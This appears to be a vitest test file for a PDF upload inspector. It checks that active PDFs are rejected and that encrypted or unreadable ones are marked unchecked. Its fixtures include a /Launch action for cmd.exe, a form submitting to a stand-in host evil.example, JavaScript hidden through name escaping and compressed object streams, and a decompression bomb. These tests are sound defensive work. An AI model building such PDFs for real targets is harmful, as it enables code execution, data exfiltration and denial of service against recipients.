import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';

import { anyFile } from '../contract/material.ts';
import { inspectFile } from './inspect-file.ts';

function pdf(...objects: readonly (string | Buffer)[]): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object) => (typeof object === 'string' ? Buffer.from(`${object}\n`) : object)),
    Buffer.from('%%EOF\n'),
  ]);
}

/** An object stream, as programs since PDF 1.5 write most objects. */
function packed(objects: string, head = '/Type /ObjStm /N 1 /First 4'): Buffer {
  const body = deflateSync(`1 0 ${objects}`);
  return Buffer.concat([
    Buffer.from(`5 0 obj\n<< ${head} /Filter /FlateDecode /Length ${body.length} >>\nstream\r\n`),
    body,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

const catalog = '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> endobj';
const inspect = (content: Buffer) => inspectFile({ name: '合格证.pdf', content }, anyFile);

describe('a PDF that acts by itself is not taken', () => {
  test.each([
    ['a script', pdf(catalog, '4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), '含有脚本'],
    ['a script behind an escaped name', pdf(catalog, '4 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj'), '含有脚本'],
    ['a script in packed objects', pdf(catalog, packed('<< /S /JavaScript /JS (app.alert(1)) >>')), '含有脚本'],
    ['a script in packed objects that do not say so', pdf(catalog, packed('<< /S /JavaScript >>', '/N 1 /First 4')), '含有脚本'],
    ['a program to be started', pdf(catalog, '4 0 obj << /S /Launch /F (cmd.exe) >> endobj'), '含有启动程序的动作'],
    ['another file within', pdf('1 0 obj << /Names << /EmbeddedFiles 9 0 R >> >> endobj'), '内嵌了其他文件'],
    [
      'a form that sends itself',
      pdf(catalog, '4 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj'),
      '含有向外发送或读取数据的动作',
    ],
  ])('%s', async (_what, content, why) => {
    await expect(inspect(content)).rejects.toMatchObject({ code: 'pdfActive', message: expect.stringContaining(why) as string });
  });
});

describe('a PDF that only shows', () => {
  test('is taken, with the page it opens at, links and packed objects', async () => {
    const link = '4 0 obj << /S /URI /URI (https://www.samr.gov.cn/) >> endobj';
    expect(await inspect(pdf(catalog, link, packed('<< /Type /Page >>')))).toMatchObject({ isChecked: true });
  });

  test('and cannot be looked into, because it is encrypted or packed in a way of its own, is taken as not checked', async () => {
    expect(await inspect(pdf(catalog, 'trailer << /Encrypt 8 0 R >>'))).toMatchObject({ isChecked: false });
    expect(
      await inspect(pdf(catalog, Buffer.from('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nxx\nendstream\n'))),
    ).toMatchObject({ isChecked: false });
    // A bomb: more than is unpacked.
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024, 32));
    const content = pdf(
      catalog,
      Buffer.concat([
        Buffer.from('5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
        bomb,
        Buffer.from('\nendstream\n'),
      ]),
    );
    expect(await inspect(content)).toMatchObject({ isChecked: false });
  });
});
